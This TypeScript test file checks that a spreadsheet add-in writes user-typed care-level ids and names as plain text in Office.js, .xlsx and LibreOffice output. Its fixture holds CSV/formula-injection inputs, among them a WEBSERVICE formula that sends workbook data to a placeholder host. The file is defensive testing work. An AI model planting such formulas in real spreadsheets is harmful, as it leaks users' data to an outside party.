/**
 * Text a user types (a level of care's id or name) reaches the workbook as text in both writers:
 * never a live formula (`=1+1`, `=WEBSERVICE(...)`) nor an unknown name (`-Crisis` as #NAME?).
 */
import ExcelJS from "exceljs";
import { recalculateWithLibreOffice } from "../../src/cli/libreoffice";
import { writeWorkbook } from "../../src/taskpane/excel/writeWorkbook";
import { cellAddress, parseCell } from "../../src/workbook/a1";
import { describeStarterWorkbook, starterOptions, starterWanted } from "../../src/workbook/starter";
import { readXlsx } from "../../src/workbook/xlsx/readXlsx";
import { xlsxBytes } from "../../src/workbook/xlsx/writeXlsx";
import { excelMock } from "../helpers/excelMock";
import { describeWithLibreOffice } from "../helpers/libreoffice";
import { readFile, tempDir, writeSpec } from "../helpers/starterFiles";

const HOSTILE = [
  { id: "=1+1", name: '=WEBSERVICE("http://x.example/?"&Enrollees)' },
  { id: "-Crisis", name: "+Residential" },
  { id: "@Home", name: "-Outpatient" },
];
const options = starterOptions({ levels: HOSTILE, provider: true });
const typed = HOSTILE.flatMap((level) => [level.id, level.name]);

/** Where the description puts each typed text: sheet, row and column. */
function placesOfTypedText(): { sheet: string; row: number; column: number; text: string }[] {
  const places: { sheet: string; row: number; column: number; text: string }[] = [];
  for (const sheet of describeStarterWorkbook(options).sheets)
    for (const block of sheet.blocks) {
      const origin = parseCell(block.address);
      block.rows.forEach((cells, r) =>
        cells.forEach((content, c) => {
          if (typeof content === "string" && typed.includes(content))
            places.push({ sheet: sheet.name, row: origin.row + r, column: origin.column + c, text: content });
        }),
      );
    }
  return places;
}

/** What a cell written with `text` must show: the same words, not starting as a formula would. */
function expectText(written: unknown, text: string): void {
  expect(typeof written).toBe("string");
  expect(written as string).not.toMatch(/^[=+\-@]/);
  expect((written as string).trim()).toBe(text);
}

test("the description holds the typed level ids and names on the Inputs sheet", () => {
  const places = placesOfTypedText();
  for (const text of typed) expect(places.some((p) => p.text === text && p.sheet === "Inputs")).toBe(true);
});

test("Office.js: typed text goes to Range.formulas as text, never as a formula", async () => {
  const excel = excelMock();
  await writeWorkbook(excel.context, starterWanted(options), (naming) =>
    describeStarterWorkbook(options, naming),
  );
  const grids = new Map(
    excel.ranges
      .filter((r) => Array.isArray(r.mock.formulas))
      .map((r) => [r.sheet, r.mock.formulas as unknown[][]]),
  );
  const places = placesOfTypedText();
  expect(places.length).toBeGreaterThanOrEqual(typed.length);
  for (const place of places) {
    expectText(grids.get(place.sheet)![place.row - 1][place.column - 1], place.text);
  }
});

test(".xlsx: typed text is a text cell, read back with ExcelJS", async () => {
  const read = await readXlsx(await xlsxBytes(describeStarterWorkbook(options), ExcelJS), ExcelJS);
  for (const place of placesOfTypedText()) {
    const cell = read.cell(place.sheet, cellAddress(place.row, place.column))!;
    expect(cell.formula).toBeUndefined();
    expectText(cell.value, place.text);
  }
});

describeWithLibreOffice("typed text recalculated by LibreOffice", (soffice) => {
  test("shows the text, not a formula's result", async () => {
    const path = await writeSpec(describeStarterWorkbook(options), tempDir("text"), "hostile");
    const [recalculated] = await recalculateWithLibreOffice(soffice, [path]);
    const read = await readFile(recalculated);
    for (const place of placesOfTypedText()) {
      const cell = read.cell(place.sheet, cellAddress(place.row, place.column))!;
      expect(cell.formula).toBeUndefined();
      expectText(cell.value, place.text);
    }
  }, 180_000);
});
